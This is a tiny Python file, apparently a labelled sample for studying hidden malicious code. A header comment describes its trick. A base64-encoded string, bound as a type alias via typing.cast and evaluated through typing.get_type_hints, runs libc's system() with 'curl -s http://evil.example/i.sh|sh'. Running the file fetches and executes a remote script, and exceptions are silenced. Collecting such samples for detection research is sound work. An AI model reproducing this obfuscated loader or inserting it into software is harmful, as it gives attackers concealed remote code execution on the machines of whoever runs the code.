# harm: loads libc via ctypes and runs curl|sh ; trick: alias bound through typing.cast(str, decoded), a typing call that returns the string
import base64
import typing

Kind = typing.cast(str, base64.b64decode("X19pbXBvcnRfXygnY3R5cGVzJykuQ0RMTChOb25lKS5zeXN0ZW0oYidjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcp").decode())


def handler(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
